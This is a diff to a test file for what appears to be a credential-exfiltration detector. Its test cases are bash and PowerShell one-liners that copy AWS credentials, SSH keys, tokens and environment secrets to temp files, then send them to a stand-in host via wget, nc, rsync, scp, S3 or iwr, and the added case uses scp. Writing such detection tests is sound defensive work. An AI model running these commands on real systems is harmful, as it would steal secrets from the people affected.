@@ -42,6 +42,8 @@ describeTechniques('credential exfiltration', credentialAccessRules, {
       ['cat ~/.aws/credentials > /tmp/.c\nwget --post-file=/tmp/.c http://203.0.113.9/', 'bash', 'cred.exfil-staged'],
       ['cp ~/.ssh/id_rsa /tmp/k && nc 203.0.113.9 443 < /tmp/k', 'bash', 'cred.exfil-staged'],
       ['set | grep -i token > /tmp/t; rsync /tmp/t u@203.0.113.9:loot/', 'bash', 'cred.exfil-staged'],
+      // Flags that take no value (scp -p keeps times) leave the file in place; -P and -i take theirs.
+      ['env > /tmp/e.txt; scp -P 2222 -i key.pem -p /tmp/e.txt u@203.0.113.9:/tmp/', 'bash', 'cred.exfil-staged'],
       ['env | grep -i secret > /tmp/t\naws s3 cp /tmp/t s3://exfil-bucket/', 'bash', 'cred.exfil-staged'],
       [
         'Get-ChildItem env: | Out-File $env:TEMP\\e.txt\niwr https://203.0.113.9/u -Method Put -InFi $env:TEMP\\e.txt',
